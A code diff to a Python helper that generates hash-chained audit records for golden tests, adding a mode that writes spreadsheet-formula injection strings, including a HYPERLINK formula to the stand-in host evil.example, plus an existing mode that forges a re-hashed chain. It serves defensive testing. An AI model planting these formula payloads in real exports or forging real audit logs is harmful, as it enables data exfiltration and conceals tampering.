@@ -3,6 +3,9 @@
 # the audit chain format of include/grondslag/audit.h, for the golden
 # tests: the C verifier must accept what this writes.
 #   audit_chain.py fill DB N       append N "approve" records
+#   audit_chain.py hostile DB N    append N "refused" records whose
+#                                  text fields start like spreadsheet
+#                                  formulas (what a caller may type)
 #   audit_chain.py rewrite DB SEQ  alter record SEQ and re-hash it and
 #                                  every later record (a consistent
 #                                  forged chain: only a checkpoint finds it)
@@ -57,6 +60,24 @@ def fill(db, n):
         prev = h
 
 
+HOSTILE = ['=HYPERLINK("http://evil.example/?x","open")', "+1+1", "-2+3", "@SUM(A1)",
+           "\tcmd", "\r=1"]
+
+
+def hostile(db, n):
+    row = db.execute("SELECT seq, hash FROM audit ORDER BY seq DESC LIMIT 1").fetchone()
+    seq, prev = (row[0], row[1]) if row else (0, "0" * 64)
+    for i in range(n):
+        seq += 1
+        text = HOSTILE[i % len(HOSTILE)]
+        details = "{" + s("refused") + ":" + s(text) + "}"
+        at = 1741953600 + seq
+        h = digest(prev, canon(seq, at, text, 1005, "none", "refused", text, details))
+        db.execute("INSERT INTO audit VALUES(?,?,?,?,?,?,?,?,?,?)",
+                   (seq, at, text, 1005, "none", "refused", text, details, prev, h))
+        prev = h
+
+
 def rewrite(db, first):
     db.executescript("DROP TRIGGER audit_no_update; DROP TRIGGER audit_no_delete;")
     rows = db.execute("SELECT seq, at, actor, uid, role, event, ref, details, prev_hash"
@@ -88,5 +109,5 @@ def drop(db, first):
 
 if __name__ == "__main__":
     conn = sqlite3.connect(sys.argv[2])
-    {"fill": fill, "rewrite": rewrite, "drop": drop}[sys.argv[1]](conn, int(sys.argv[3]))
+    {"fill": fill, "hostile": hostile, "rewrite": rewrite, "drop": drop}[sys.argv[1]](conn, int(sys.argv[3]))
     conn.commit()
